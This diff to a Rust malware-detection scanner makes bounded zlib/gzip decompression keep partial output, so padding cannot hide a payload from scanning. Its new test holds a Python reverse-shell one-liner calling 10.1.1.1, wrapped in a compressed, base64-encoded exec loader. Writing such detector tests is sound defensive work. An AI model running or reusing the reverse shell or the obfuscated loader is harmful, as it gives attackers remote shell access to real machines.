@@ -7,6 +7,7 @@ use aho_corasick::automaton::Automaton as _;
 use aho_corasick::dfa::DFA;
 use aho_corasick::Anchored;
 use base64::Engine as _;
+use miniz_oxide::inflate::TINFLStatus;
 use std::sync::OnceLock;
 
 /// Hashed n-gram buckets are `0..(1 << HASH_BITS)`.
@@ -2796,20 +2797,39 @@ fn blob(s: &str, present: &ByteSet, depth: u8, acc: &mut Acc) {
     payload(&bytes, depth, true, acc);
 }
 
-/// Decompresses zlib, gzip or raw-deflate data, bounded.
+/// Decompresses zlib or gzip data, bounded.
 fn inflate(b: &[u8]) -> Option<Vec<u8>> {
     const LIMIT: usize = 256 * 1024;
     let zlib = b.len() > 2 && b[0] == 0x78 && matches!(b[1], 0x01 | 0x5e | 0x9c | 0xda);
     let gzip = b.len() > 10 && b[0] == 0x1f && b[1] == 0x8b;
+    // Past the bound, or when the data is cut short, what did decompress is kept: padding a
+    // payload must not hide the code in front of it.
+    let partial = |r: Result<Vec<u8>, miniz_oxide::inflate::DecompressError>| match r {
+        Ok(out) => Some(out),
+        Err(e)
+            if matches!(
+                e.status,
+                TINFLStatus::HasMoreOutput | TINFLStatus::FailedCannotMakeProgress
+            ) && !e.output.is_empty() =>
+        {
+            Some(e.output)
+        }
+        Err(_) => None,
+    };
     if zlib {
-        miniz_oxide::inflate::decompress_to_vec_zlib_with_limit(b, LIMIT).ok()
+        partial(miniz_oxide::inflate::decompress_to_vec_zlib_with_limit(
+            b, LIMIT,
+        ))
     } else if gzip {
         // Skip the fixed gzip header (no optional fields, the common case).
         let flags = b[3];
         if flags != 0 {
             return None;
         }
-        miniz_oxide::inflate::decompress_to_vec_with_limit(&b[10..], LIMIT).ok()
+        partial(miniz_oxide::inflate::decompress_to_vec_with_limit(
+            &b[10..],
+            LIMIT,
+        ))
     } else {
         None
     }
@@ -3018,6 +3038,33 @@ mod tests {
         assert!(f.named[F::Hidden as usize] > 0.0);
         assert!(f.named[F::RevShell as usize] > 0.0);
         assert!(f.named[F::DecodeExec as usize] > 0.0);
+    }
+
+    /// A payload padded past the decompression bound, or cut short, is scanned as far as it
+    /// decompresses: padding must not hide the code in front of it.
+    #[test]
+    fn decodes_the_front_of_an_oversized_or_cut_payload() {
+        use base64::Engine as _;
+        let shell = "import socket,subprocess,os;s=socket.socket();s.connect(('10.1.1.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n";
+        // Varied padding, so that it does not compress to nothing.
+        let padding: String = (0..40_000)
+            .map(|i| format!("v{i} = {}\n", i * 7919 % 10007))
+            .collect();
+        assert!(padding.len() > 2 * 256 * 1024);
+        let z =
+            miniz_oxide::deflate::compress_to_vec_zlib(format!("{shell}{padding}").as_bytes(), 6);
+        let cut = &z[..z.len() / 2];
+        for packed in [&z[..], cut] {
+            let b = base64::engine::general_purpose::STANDARD.encode(packed);
+            let src = format!("import zlib,base64\nexec(zlib.decompress(base64.b64decode('{b}')))");
+            let f = extract(&src);
+            assert!(
+                f.named[F::RevShell as usize] > 0.0,
+                "{} bytes",
+                packed.len()
+            );
+            assert!(f.named[F::Hidden as usize] > 0.0);
+        }
     }
 
     /// Every name pattern of the functions [`scan`] skips for screened-out names is in
